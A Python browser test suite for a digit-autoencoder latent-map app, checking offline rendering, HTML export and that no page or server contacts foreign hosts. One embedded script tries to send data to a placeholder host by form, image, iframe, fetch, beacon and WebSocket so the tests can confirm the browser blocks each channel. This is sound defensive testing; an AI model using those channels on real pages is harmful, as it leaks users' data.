"""The map where little is given: no WebGL, no graphics hardware, no network; no foreign request."""

import re
import subprocess
import sys
from contextlib import closing

import numpy as np
import pytest
import torch

from explorer.assets.html_export import export_page
from models.data.load import load
from models.storage.checkpoint import read, restore
from tests.helpers.app_server import app_server
from tests.helpers.browser_page import (
    MAP,
    assert_beta_moves_codes,
    assert_equal_pictures,
    canvas_pixels,
    isolated,
    lens,
    next_frame,
    pins,
    place,
    settle,
    signed,
    spots,
    torch_pixels,
    wait_for_layout,
    wait_for_map,
    wait_for_points,
)
from tests.helpers.chromium import ARGUMENTS, CHROMIUM, TIMEOUT
from tests.helpers.paths import ROOT
from tests.helpers.processes import wait
from tests.helpers.train_page import trained

DIGITS_FILE = ROOT / "checkpoints" / "digits-2d-beta-1.safetensors"
DIGITS = read(DIGITS_FILE)
CODES = DIGITS.codes

pytestmark = pytest.mark.browser


def training_codes():
    """The mean codes of training images."""
    with torch.no_grad():
        return restore(DIGITS).encode(torch.tensor(load("digits", "train").images))[0].tolist()


def assert_alive(page):
    """The points are painted in their classes' colours, and a spot is decoded as by torch."""
    next_frame(page)
    painted = page.locator(".layer.points").screenshot()
    assert len(painted) > 5000
    dots = canvas_pixels(page.locator(".layer.points")).reshape(-1, 3)
    assert len(np.unique(dots, axis=0)) > 10
    x, y, *z = spots(page, 5)[2]
    page.mouse.move(x, y)
    assert_equal_pictures(lens(page, f"z₁ {signed(z[0])}"), torch_pixels(DIGITS, z))


@pytest.mark.parametrize(
    "flags",
    [["--disable-webgl", "--disable-3d-apis"], ["--disable-gpu-compositing"]],
    ids=["no WebGL", "software compositing"],
)
def test_a_browser_without_graphics_shows_the_map(server, flags, chromium):
    arguments = [flag for flag in ARGUMENTS if "swiftshader" not in flag] + flags
    other = chromium.browser_type.launch(executable_path=CHROMIUM, args=arguments)
    with closing(other), closing(other.new_page(viewport={"width": 1440, "height": 900})) as page:
        page.set_default_timeout(TIMEOUT)
        page.goto(f"{server[0]}/?model=digits-2d-beta-1")
        wait_for_map(page, 500)
        if "--disable-webgl" in flags:
            assert (
                page.evaluate("() => document.createElement('canvas').getContext('webgl')") is None
            )
        assert_alive(page)


def test_the_exported_file_has_the_whole_map_offline(chromium, tmp_path):
    path = tmp_path / "map.html"
    path.write_bytes(export_page(DIGITS_FILE))
    settings = {"viewport": {"width": 1440, "height": 900}, "offline": True}
    with closing(chromium.new_context(**settings)) as context:
        page, requests, errors = context.new_page(), [], []
        page.set_default_timeout(TIMEOUT)
        page.route(re.compile("^(http|ws)"), lambda route: route.abort())
        page.on("request", lambda request: requests.append(request.url))
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(path.as_uri())
        wait_for_points(page, 500)
        page.wait_for_function(f"() => {MAP}.originals.count")
        assert_alive(page)
        off = f"codes => codes.map(z => {MAP}.model.density(Float32Array.from(z)).rare)"
        assert np.mean(page.evaluate(off, training_codes())) < 0.03, "of the same kind as the map's"
        assert page.evaluate(off, [[5.0, 5.0], [-4.0, 4.5]]) == [True, True]

        (image,) = isolated(CODES, 1)
        page.mouse.click(*place(page, image))
        d, r = CODES.distortion[image], CODES.rate[image].sum()
        assert page.locator(".scores").inner_text().startswith(f"D {d:.1f} + R {r:.1f} = ")
        assert page.locator(".inspector figure", has_text="Original").count() == 1
        decoded = page.locator(".inspector figure", has_text="Decoded mean").locator("canvas")
        assert_equal_pictures(canvas_pixels(decoded), torch_pixels(DIGITS, CODES.mean[image]))
        for tab, canvases in (("By hand", 1), ("Prior samples", 40), ("Decoded grid", 1)):
            page.get_by_role("tab", name=tab).click()
            assert page.locator(".tab-body canvas").count() == canvases
        page.get_by_role("tab", name="By hand").click()
        page.get_by_role("button", name="Pin it").click()
        assert len(pins(page)) == 2
        wait(lambda: page.locator(".film .cell canvas").count() == 16)
        page.get_by_text("Overlays").click()
        page.get_by_label("Background").select_option("density")
        page.wait_for_function(f"() => {MAP}.background")
        for kind, start in (("PNG", b"\x89PNG"), ("SVG", b"<svg")):
            with page.expect_download() as download:
                page.get_by_role("button", name=kind, exact=True).click()
            assert download.value.path().read_bytes().startswith(start)
        allowed = ("file:", "data:", "blob:")
        assert [url for url in requests if not url.startswith(allowed)] == []
        assert errors == []


@pytest.mark.slow
def test_the_file_of_a_model_of_every_beta_has_its_slider(chromium, tmp_path):
    path = tmp_path / "map.html"
    path.write_bytes(export_page(ROOT / "checkpoints" / "digits-2d-multirate.safetensors"))
    with closing(chromium.new_context(offline=True)) as context:
        page = context.new_page()
        page.set_default_timeout(TIMEOUT)
        page.goto(path.as_uri())
        wait_for_points(page, 500)
        assert_beta_moves_codes(page)


def test_a_file_from_the_page_keeps_pins_selection_and_overlays(visit, chromium, tmp_path):
    look = "means,no-prior,hidden:3,range:-1.5:1.5:-2:1"
    page = visit(f"point=58&pins=A~0.5,-0.25;B~1,1&look={look}&panel=hand")
    wait_for_map(page, 500)
    page.get_by_role("button", name="Save as HTML").click()
    page.get_by_role("button", name="Make the file").click()
    with page.expect_download() as download:
        page.get_by_role("button", name=re.compile("^Save .* (kB|MB)")).click()
    path = tmp_path / "map.html"
    download.value.save_as(path)
    state = f"""() => {{
        const map = {MAP}, {{x, y}} = map.view;
        return [map.point, map.pins.all.map(({{name, z}}) => [name, ...z]), [...map.scatter.hidden],
                map.toolbar.means, map.toolbar.prior, map.inspector.open, x, y];
    }}"""
    before = page.evaluate(state)
    with closing(chromium.new_page(viewport=page.viewport_size, offline=True)) as file:
        file.goto(path.as_uri())
        wait_for_points(file, 500)
        file.wait_for_function(f"() => {MAP}.has.restored")
        after = file.evaluate(state)
    assert after[:6] == before[:6]
    assert after[:2] == [58, [["A", 0.5, -0.25], ["B", 1, 1]]]
    (left, right), (low, high) = after[6:]
    assert [(left + right) / 2, (low + high) / 2] == pytest.approx([0, -0.5], abs=1e-6)


CHART = ".js-plotly-plot .main-svg"
PAGES = {
    "?model=digits-2d-beta-1&point=58": ".st-key-map .inspector h2",
    "?view=pca&panel=grid": ".st-key-map .grid-sheet canvas",
    "?panel=draw": ".pad canvas",
    "?model=digits-2d-beta-1&second=digits-2d-beta-0.1": ".st-key-map-2 .inspector canvas",
    "trade-off": f".rates {CHART}",
    "trade-off?curve=digits-2d-multirate": ".rates .samples canvas",
    "collapse": CHART,
    "train": "[data-testid=stBaseButton-primary]",
    "train?own={run}": ".training-film .codes canvas",
    "train?runs=digits-2d-beta-1,digits-2d-beta-4": "[data-testid=stTable]",
    "experiments?experiment=kl": CHART,
    "experiments?experiment=gradient": CHART,
    "experiments?experiment=samples": CHART,
    "experiments?experiment=beta": CHART,
    "lessons": "[data-testid=stBaseButton-tertiary]",
    "lessons?lesson=density&predicted=density~1": CHART,
    "lessons?lesson=doctor": CHART,
    "lessons?lesson=check": "[data-testid=stRadio]",
}
"""Every page of the app by its link, and what is there once it is."""
HARMLESS = {
    "Download plot as a PNG", "Download plot as a png", "Zoom", "Pan", "Zoom in", "Zoom out",
    "Reset axes", "Fullscreen", "Close fullscreen",
}  # fmt: skip
"""What the toolbar of a chart may offer."""
SEND = """() => {
    const foreign = "https://elsewhere.invalid/", refused = [];
    document.addEventListener("securitypolicyviolation", (e) => refused.push(e.effectiveDirective));
    const form = document.createElement("form");
    Object.assign(form, {method: "post", target: "_blank", action: foreign});
    document.body.append(form);
    form.submit();
    new Image().src = foreign;
    document.body.append(Object.assign(document.createElement("iframe"), {src: foreign}));
    fetch(foreign, {method: "post", body: "data"}).catch(() => null);
    navigator.sendBeacon(foreign, "data");
    try { new WebSocket("wss://elsewhere.invalid/"); } catch { /* refused at once */ }
    return new Promise((done) => setTimeout(() => done(refused), 500));
}"""
"""Every way to send something elsewhere; the ways that the browser refused."""
NOTED = """
import runpy, sys
asked = open(sys.argv.pop(1), "a", buffering=1)
is_app = sys.argv[1] == "run"
wanted = {
    "socket.bind": 1, "socket.connect": 1, "socket.sendto": 1,
    "socket.getaddrinfo": 0, "socket.gethostbyname": 0, "socket.gethostbyaddr": 0,
}
def note(event, arguments):
    if event in wanted:
        print(event, repr(arguments[wanted[event]]), sep="\\t", file=asked)
        if not is_app:
            raise OSError("no network")
sys.addaudithook(note)
if is_app:
    runpy.run_module("streamlit", run_name="__main__", alter_sys=True)
else:
    exec(sys.argv[1])
"""
"""Writes down the addresses of sockets of Streamlit; or of a line of Python, that are refused."""


def asked_of_others(path):
    """What a process wrote down that is not of this machine."""
    lines = [line.split("\t") for line in path.read_text().splitlines()]
    hosts = [(event, re.sub(r"^[(]|, .*$", "", address).strip("'b")) for event, address in lines]
    own = r"127\..*|::1|localhost|None|/.*|"
    return [pair for pair in hosts if not re.fullmatch(own, pair[1])]


def visit_every_page(page, address, run):
    """Opens one page after another, and waits until all of each is there."""
    for link, selector in PAGES.items():
        page.goto(f"{address}/{link.format(run=run)}")
        page.locator(selector).first.wait_for()
        settle(page)
        wait_for_layout(page)
        page.wait_for_load_state("networkidle")
        assert page.locator("[data-testid=stException]").count() == 0, link
        buttons = page.locator(".modebar-btn").evaluate_all(
            "(all) => all.map((b) => b.dataset.title)"
        )
        assert {title.split(" (")[0] for title in buttons} <= HARMLESS, link
        clouds = """() => [...document.querySelectorAll(".js-plotly-plot")].map(({_context: c}) =>
            [c.showSendToCloud, c.plotlyServerURL].join())"""
        assert {*page.evaluate(clouds)} <= {"false,"}, link


@pytest.mark.slow
def test_no_page_and_no_server_asks_anything_of_another(chromium, tmp_path):
    run, asked = trained(tmp_path / "runs").id, tmp_path / "asked"
    with (
        app_server(tmp_path / "runs", ["-c", NOTED, asked]) as (address, _),
        closing(chromium.new_context(viewport={"width": 1440, "height": 900})) as context,
    ):
        page, requests = context.new_page(), []
        page.set_default_timeout(TIMEOUT)
        context.on("request", lambda request: requests.append(request.url))
        page.on("websocket", lambda socket: requests.append(socket.url))
        page.goto(f"{address}/?model=digits-2d-beta-1&point=58")
        wait_for_map(page, 500)
        for kind in ("PNG", "SVG"):
            with page.expect_download():
                page.get_by_role("button", name=kind, exact=True).click()
        assert not [url for url in requests if "plotly" in url.lower()], "the map needs none"
        visit_every_page(page, address, run)
    own = (address, address.replace("http", "ws", 1), "data:", "blob:")
    assert [url for url in requests if not url.startswith(own)] == []
    assert any(url.startswith("ws") for url in requests) and len(requests) > 20
    assert "socket.bind\t('127.0.0.1'" in asked.read_text(), "it was written down"
    assert asked_of_others(asked) == []


@pytest.mark.parametrize("is_file", [False, True], ids=["app", "exported file"])
def test_the_browser_refuses_whatever_a_page_might_send(is_file, server, chromium, tmp_path):
    path = tmp_path / "map.html"
    if is_file:
        path.write_bytes(export_page(DIGITS_FILE))
    with closing(chromium.new_context()) as context:
        page = context.new_page()
        page.set_default_timeout(TIMEOUT)
        page.goto(path.as_uri() if is_file else f"{server[0]}/?model=digits-2d-beta-1")
        wait_for_points(page, 500)
        refused = page.evaluate(SEND)
    kinds = {kind.removesuffix("-elem") for kind in refused}
    assert kinds == {"form-action", "img-src", "frame-src", "connect-src"}
    assert refused.count("connect-src") == 3


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("import models.data.builtin as b; b.download('mnist', '{folder}')", "amazonaws.com"),
        ("from streamlit import net_util as n; n.get_external_ip()", "amazonaws.com"),
        ("import socket as s; s.socket(type=s.SOCK_DGRAM).connect(('192.0.2.1', 9))", "192.0.2.1"),
    ],
    ids=["what Download MNIST starts", "public address", "UDP"],
)
def test_what_is_asked_of_others_is_seen(line, host, tmp_path):
    path = tmp_path / "asked"
    code = line.format(folder=tmp_path)
    subprocess.run([sys.executable, "-c", NOTED, path, code], cwd=ROOT, capture_output=True)
    assert [event for event, asked in asked_of_others(path) if host in asked]
